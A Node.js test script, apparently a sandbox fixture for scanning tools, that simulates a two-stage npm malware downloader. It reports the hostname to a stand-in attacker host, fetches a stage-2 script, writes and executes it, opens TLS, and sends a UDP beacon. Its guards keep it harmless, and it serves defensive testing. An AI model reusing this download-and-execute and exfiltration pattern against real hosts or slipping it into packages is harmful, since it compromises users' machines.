// Simulates a two-stage downloader, the shape of most npm malware since
// ua-parser-js 0.7.29 (October 2021): the install script resolves the
// attacker's host, reports the machine to it (a JSON POST), fetches a stage 2
// script and runs it, talks TLS to a second host, and sends a UDP beacon.
// What this does instead, harmlessly: every name is under attacker.example
// (.example is reserved by RFC 2606 and never resolves on the Internet), the
// beacon goes to 203.0.113.9 (TEST-NET-3, routed nowhere), the report and
// the beacon hold a marker and the host name only, and the stage 2 it runs is
// whatever the sandbox's sinkhole answered (a script that does nothing). It
// acts only where the network has no interface but loopback, i.e. in a
// sandbox; anywhere else it prints a line and exits.
// It prints one "DOWNLOADER step=outcome" line per step, so a scan's output
// says how far it got (in the offline network: nowhere, every step fails).
'use strict';
const cp = require('child_process');
const dgram = require('dgram');
const dns = require('dns');
const fs = require('fs');
const http = require('http');
const os = require('os');
const tls = require('tls');

const say = (step, outcome) => console.log(`DOWNLOADER ${step}=${outcome}`);
if (Object.keys(os.networkInterfaces()).join(',') !== 'lo') {
  console.log('attack-downloader: not in a sandbox network, doing nothing');
  process.exit(0);
}
setTimeout(() => { say('timeout', 'gave up'); process.exit(0); }, 20000).unref();

const lookup = () => new Promise((done) => dns.lookup('collect.attacker.example', { family: 4 },
  (err, address) => { say('resolve', err ? err.code : address); done(); }));

const report = () => new Promise((done) => {
  const body = JSON.stringify({ marker: 'sf-downloader-report', host: os.hostname() });
  const req = http.request({ host: 'collect.attacker.example', path: '/report', method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
    timeout: 5000 }, (res) => { say('report', res.statusCode); res.resume(); res.on('end', done); });
  req.on('error', (e) => { say('report', e.code); done(); });
  req.on('timeout', () => req.destroy(new Error('timeout')));
  req.end(body);
});

const stage2 = () => new Promise((done) => {
  const req = http.get({ host: 'stage2.attacker.example', path: '/stage2.sh', timeout: 5000 },
    (res) => {
      const parts = [];
      res.on('data', (d) => parts.push(d));
      res.on('end', () => {
        const file = '/tmp/.sf-stage2.sh';
        fs.writeFileSync(file, Buffer.concat(parts), { mode: 0o755 });
        try {
          cp.execFileSync(file, [], { stdio: 'ignore', timeout: 5000 });
          say('stage2', 'ran');
        } catch (e) { say('stage2', `failed ${e.code || e.status}`); }
        done();
      });
    });
  req.on('error', (e) => { say('stage2', e.code); done(); });
  req.on('timeout', () => req.destroy(new Error('timeout')));
});

const hello = () => new Promise((done) => {
  const s = tls.connect({ host: 'tls.attacker.example', port: 443,
    servername: 'tls.attacker.example', timeout: 5000 });
  s.on('secureConnect', () => { say('tls', 'connected'); s.destroy(); done(); });
  s.on('error', (e) => { say('tls', e.code || 'error'); done(); });
  s.on('timeout', () => { say('tls', 'timeout'); s.destroy(); done(); });
});

const beacon = () => new Promise((done) => {
  const u = dgram.createSocket('udp4');
  const end = (outcome) => { say('beacon', outcome); u.close(); done(); };
  u.connect(5555, '203.0.113.9', (err) => {
    if (err) return end(err.code);
    return u.send(`sf-downloader-beacon ${os.hostname()}`, (e) => end(e ? e.code : 'sent'));
  });
});

lookup().then(report).then(stage2).then(hello).then(beacon).then(() => process.exit(0));
